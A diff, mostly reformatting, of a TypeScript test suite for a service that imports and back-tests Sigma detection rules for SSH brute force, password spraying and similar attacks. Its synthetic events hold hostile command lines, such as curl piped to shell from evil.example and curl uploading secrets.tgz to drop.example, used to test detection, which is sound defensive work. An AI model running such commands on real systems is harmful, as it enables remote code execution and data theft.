@@ -18,17 +18,33 @@ describe('importing Sigma rules', () => {
   it('POST /rules with type sigma: 201, name/severity/tags from the YAML, stored with the YAML', async () => {
     const yaml = `title: Root SSH login\nid: 5f0a6c1e-0000-4000-8000-000000000001\nstatus: test\nlevel: high\ntags:\n  - attack.initial_access\n  - attack.t1078\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n  sel:\n    User: root\n  condition: sel\n`;
     const rule = await sigma(yaml);
-    expect(rule).toMatchObject({ type: 'sigma', name: 'Root SSH login', severity: 'ERROR', tags: ['attack.initial_access', 'attack.t1078'], category: 'sigma', yaml, version: 1 });
+    expect(rule).toMatchObject({
+      type: 'sigma',
+      name: 'Root SSH login',
+      severity: 'ERROR',
+      tags: ['attack.initial_access', 'attack.t1078'],
+      category: 'sigma',
+      yaml,
+      version: 1,
+    });
     const got = await api(s, 'GET', `/rules/${rule.id}`);
     expect(got.body).toMatchObject({ type: 'sigma', yaml });
   });
 
   it('refuses unsupported features with a 400 naming them, and stores nothing', async () => {
     const before = (await s.db.pool.query('SELECT count(*)::int AS n FROM rules')).rows[0].n;
-    const r = await api(s, 'POST', '/rules', { type: 'sigma', yaml: 'title: x\ndetection:\n  sel:\n    CommandLine|expand: "%svc%"\n  condition: sel\n' });
+    const r = await api(s, 'POST', '/rules', {
+      type: 'sigma',
+      yaml: 'title: x\ndetection:\n  sel:\n    CommandLine|expand: "%svc%"\n  condition: sel\n',
+    });
     expect(r.status).toBe(400);
-    expect((r.body.error as Json).message).toContain('Sigma: the placeholder %svc% in "CommandLine|expand" is not defined (none is defined)');
-    const agg = await api(s, 'POST', '/rules', { type: 'sigma', yaml: 'title: x\ndetection:\n  sel:\n    User: x\n  condition: sel | count() by SourceIp > 5\n' });
+    expect((r.body.error as Json).message).toContain(
+      'Sigma: the placeholder %svc% in "CommandLine|expand" is not defined (none is defined)',
+    );
+    const agg = await api(s, 'POST', '/rules', {
+      type: 'sigma',
+      yaml: 'title: x\ndetection:\n  sel:\n    User: x\n  condition: sel | count() by SourceIp > 5\n',
+    });
     expect(agg.status).toBe(400);
     expect((agg.body.error as Json).message).toContain('aggregation');
     expect((await s.db.pool.query('SELECT count(*)::int AS n FROM rules')).rows[0].n).toBe(before);
@@ -55,7 +71,13 @@ detection:
   condition: scope and all of selection_* and not filter_updates
 `);
     // process_creation on linux reads MozDef's execve events.
-    const ev = (hostname: string, processname: string, commandline: string, parent = '/bin/bash') => ({ category: 'execve', hostname, processname, summary: `${processname} ran`, details: { run: cat, commandline, parentprocessname: parent } });
+    const ev = (hostname: string, processname: string, commandline: string, parent = '/bin/bash') => ({
+      category: 'execve',
+      hostname,
+      processname,
+      summary: `${processname} ran`,
+      details: { run: cat, commandline, parentprocessname: parent },
+    });
     await postEvents(s, [
       ev('ws-1', '/usr/bin/curl', 'curl -fsSL https://evil.example/i.sh | sh'),
       ev('ws-2', '/usr/bin/curl', 'curl -o out https://example.org/file'),
@@ -65,7 +87,10 @@ detection:
     ]);
     await settle();
     const alerts = await alertsOf(s, rule.id as string);
-    expect(alerts.map((a) => a.summary).sort()).toEqual(['Curl piped to shell on ws-1: /usr/bin/curl ran', 'Curl piped to shell on ws-3: /usr/bin/wget ran']);
+    expect(alerts.map((a) => a.summary).sort()).toEqual([
+      'Curl piped to shell on ws-1: /usr/bin/curl ran',
+      'Curl piped to shell on ws-3: /usr/bin/wget ran',
+    ]);
     expect(alerts.every((a) => a.severity === 'ERROR' && a.eventCount === 1)).toBe(true);
   });
 
@@ -85,8 +110,20 @@ detection:
     SourceIp|cidr: [10.0.0.0/8, 172.16.0.0/12, 192.168.0.0/16]
   condition: selection and not internal
 `);
-    const ev = (ip: string, success: boolean, processname = 'sshd') => ({ category: cat, hostname: 'bastion', processname, summary: `${success ? 'Accepted' : 'Failed'} password for bob from ${ip}`, details: { sourceipaddress: ip, success, authmethod: 'password', username: 'bob' } });
-    await postEvents(s, [ev('10.2.3.4', true), ev('198.51.100.7', true), ev('198.51.100.8', false), ev('192.168.1.1', true), ev('203.0.113.5', true, 'login')]);
+    const ev = (ip: string, success: boolean, processname = 'sshd') => ({
+      category: cat,
+      hostname: 'bastion',
+      processname,
+      summary: `${success ? 'Accepted' : 'Failed'} password for bob from ${ip}`,
+      details: { sourceipaddress: ip, success, authmethod: 'password', username: 'bob' },
+    });
+    await postEvents(s, [
+      ev('10.2.3.4', true),
+      ev('198.51.100.7', true),
+      ev('198.51.100.8', false),
+      ev('192.168.1.1', true),
+      ev('203.0.113.5', true, 'login'),
+    ]);
     await settle();
     const alerts = await alertsOf(s, rule.id as string);
     expect(alerts).toHaveLength(1);
@@ -119,16 +156,34 @@ correlation:
   condition:
     gte: 5
 `);
-    expect(rule).toMatchObject({ name: 'SSH brute force', severity: 'WARNING', tags: ['attack.credential_access', 'attack.t1110'] });
-    const fail = (ip: string, user = 'root') => ({ category: cat, hostname: 'web-01', processname: 'sshd', summary: `Failed password for ${user} from ${ip} port 22 ssh2`, details: { sourceipaddress: ip, username: user } });
+    expect(rule).toMatchObject({
+      name: 'SSH brute force',
+      severity: 'WARNING',
+      tags: ['attack.credential_access', 'attack.t1110'],
+    });
+    const fail = (ip: string, user = 'root') => ({
+      category: cat,
+      hostname: 'web-01',
+      processname: 'sshd',
+      summary: `Failed password for ${user} from ${ip} port 22 ssh2`,
+      details: { sourceipaddress: ip, username: user },
+    });
     await postEvents(s, [fail('1.2.3.4'), fail('1.2.3.4'), fail('5.6.7.8'), fail('1.2.3.4'), fail('1.2.3.4')]);
     await settle();
     expect(await alertsOf(s, rule.id as string)).toHaveLength(0);
-    await postEvents(s, [fail('1.2.3.4'), fail('5.6.7.8'), { ...fail('1.2.3.4'), summary: 'Accepted password for root from 1.2.3.4' }]);
+    await postEvents(s, [
+      fail('1.2.3.4'),
+      fail('5.6.7.8'),
+      { ...fail('1.2.3.4'), summary: 'Accepted password for root from 1.2.3.4' },
+    ]);
     await settle();
     const alerts = await alertsOf(s, rule.id as string);
     expect(alerts).toHaveLength(1);
-    expect(alerts[0]).toMatchObject({ summary: 'SSH brute force: 5 events 1.2.3.4', eventCount: 5, severity: 'WARNING' });
+    expect(alerts[0]).toMatchObject({
+      summary: 'SSH brute force: 5 events 1.2.3.4',
+      eventCount: 5,
+      severity: 'WARNING',
+    });
   });
 
   it('password spraying as a value_count correlation: distinct users per source', async () => {
@@ -152,15 +207,31 @@ correlation:
     field: TargetUserName
     gte: 3
 `);
-    const logon = (ip: string, user: string, eventid = 4625) => ({ category: cat, hostname: 'DC01', summary: 'An account failed to log on', details: { eventid, sourceipaddress: ip, username: user } });
-    await postEvents(s, [logon('203.0.113.9', 'alice'), logon('203.0.113.9', 'alice'), logon('203.0.113.9', 'bob'), logon('198.51.100.1', 'carol'), logon('198.51.100.1', 'dave'), logon('203.0.113.9', 'erin', 4624)]);
+    const logon = (ip: string, user: string, eventid = 4625) => ({
+      category: cat,
+      hostname: 'DC01',
+      summary: 'An account failed to log on',
+      details: { eventid, sourceipaddress: ip, username: user },
+    });
+    await postEvents(s, [
+      logon('203.0.113.9', 'alice'),
+      logon('203.0.113.9', 'alice'),
+      logon('203.0.113.9', 'bob'),
+      logon('198.51.100.1', 'carol'),
+      logon('198.51.100.1', 'dave'),
+      logon('203.0.113.9', 'erin', 4624),
+    ]);
     await settle();
     expect(await alertsOf(s, rule.id as string)).toHaveLength(0);
     await postEvents(s, [logon('203.0.113.9', 'carol')]);
     await settle();
     const alerts = await alertsOf(s, rule.id as string);
     expect(alerts).toHaveLength(1);
-    expect(alerts[0]).toMatchObject({ summary: 'Password spraying: 3 distinct TargetUserName in 4 events 203.0.113.9', eventCount: 4, severity: 'ERROR' });
+    expect(alerts[0]).toMatchObject({
+      summary: 'Password spraying: 3 distinct TargetUserName in 4 events 203.0.113.9',
+      eventCount: 4,
+      severity: 'ERROR',
+    });
   });
 
   it('recon then exfiltration on one host as a temporal correlation (any order), not on a host with only one', async () => {
@@ -189,15 +260,29 @@ correlation:
   group-by: [ComputerName]
   timespan: 10m
 `);
-    const cmd = (hostname: string, commandline: string) => ({ category: cat, hostname, summary: 'exec', details: { commandline } });
-    await postEvents(s, [cmd('ws-1', 'curl -T secrets.tgz https://drop.example'), cmd('ws-2', 'whoami /all'), cmd('ws-2', 'whoami'), cmd('ws-3', 'ls -la')]);
+    const cmd = (hostname: string, commandline: string) => ({
+      category: cat,
+      hostname,
+      summary: 'exec',
+      details: { commandline },
+    });
+    await postEvents(s, [
+      cmd('ws-1', 'curl -T secrets.tgz https://drop.example'),
+      cmd('ws-2', 'whoami /all'),
+      cmd('ws-2', 'whoami'),
+      cmd('ws-3', 'ls -la'),
+    ]);
     await settle();
     expect(await alertsOf(s, rule.id as string)).toHaveLength(0);
     await postEvents(s, [cmd('ws-1', 'net group "domain admins" /domain')]);
     await settle();
     const alerts = await alertsOf(s, rule.id as string);
     expect(alerts).toHaveLength(1);
-    expect(alerts[0]).toMatchObject({ summary: 'Recon and upload on one host: 2 of 2 rules matched in 2 events ws-1', eventCount: 2, severity: 'CRITICAL' });
+    expect(alerts[0]).toMatchObject({
+      summary: 'Recon and upload on one host: 2 of 2 rules matched in 2 events ws-1',
+      eventCount: 2,
+      severity: 'CRITICAL',
+    });
   });
 
   it('a correlation window is rebuilt from the store (as after a restart) and alerted events are not reused', async () => {
@@ -283,20 +368,37 @@ correlation:
 describe('testing Sigma drafts', () => {
   it('POST /rules/test and tRPC rules.test back-test a Sigma draft over stored events, storing nothing', async () => {
     const cat = uniqueCategory('sigma-bt');
-    await postEvents(s, ['a', 'b', 'a', 'c', 'a'].map((u) => ({ category: cat, summary: 'Failed password', details: { sourceipaddress: `10.0.0.${u === 'a' ? 1 : 2}`, username: u } })));
+    await postEvents(
+      s,
+      ['a', 'b', 'a', 'c', 'a'].map((u) => ({
+        category: cat,
+        summary: 'Failed password',
+        details: { sourceipaddress: `10.0.0.${u === 'a' ? 1 : 2}`, username: u },
+      })),
+    );
     await settle();
     const yaml = `title: f\nname: f\ndetection:\n  s:\n    category: ${cat}\n  condition: s\n---\ntitle: Three from one source\ncorrelation:\n  type: event_count\n  rules: f\n  group-by: SourceIp\n  timespan: 10m\n  condition: {gte: 3}\n`;
-    const count = async () => (await s.db.pool.query('SELECT (SELECT count(*) FROM alerts)::int AS a, (SELECT count(*) FROM rules)::int AS r')).rows[0];
+    const count = async () =>
+      (await s.db.pool.query('SELECT (SELECT count(*) FROM alerts)::int AS a, (SELECT count(*) FROM rules)::int AS r'))
+        .rows[0];
     const before = await count();
     const r = await api(s, 'POST', '/rules/test', { rule: { type: 'sigma', yaml }, from: 'now-1h', to: 'now+1m' });
     expect(r.status, JSON.stringify(r.body)).toBe(200);
     expect(r.body.matched).toBe(5);
-    expect((r.body.alerts as Json[]).map((a) => [a.summary, a.eventCount])).toEqual([['Three from one source: 3 events 10.0.0.1', 3]]);
-    const res = await fetch(`${s.url}/api/trpc/rules.test`, { method: 'POST', headers: { Authorization: `Bearer ${s.adminToken}`, 'Content-Type': 'application/json' }, body: JSON.stringify({ rule: { type: 'sigma', yaml }, from: 'now-1h', to: 'now+1m' }) });
+    expect((r.body.alerts as Json[]).map((a) => [a.summary, a.eventCount])).toEqual([
+      ['Three from one source: 3 events 10.0.0.1', 3],
+    ]);
+    const res = await fetch(`${s.url}/api/trpc/rules.test`, {
+      method: 'POST',
+      headers: { Authorization: `Bearer ${s.adminToken}`, 'Content-Type': 'application/json' },
+      body: JSON.stringify({ rule: { type: 'sigma', yaml }, from: 'now-1h', to: 'now+1m' }),
+    });
     expect(res.status).toBe(200);
     const data = ((await res.json()) as { result: { data: Json } }).result.data;
     expect((data.alerts as Json[]).length).toBe(1);
-    const bad = await api(s, 'POST', '/rules/test', { rule: { type: 'sigma', yaml: yaml.replace('gte: 3', 'range: 3') } });
+    const bad = await api(s, 'POST', '/rules/test', {
+      rule: { type: 'sigma', yaml: yaml.replace('gte: 3', 'range: 3') },
+    });
     expect(bad.status).toBe(400);
     expect((bad.body.error as Json).message).toContain('the correlation condition "range" is not supported');
     expect(await count()).toEqual(before);
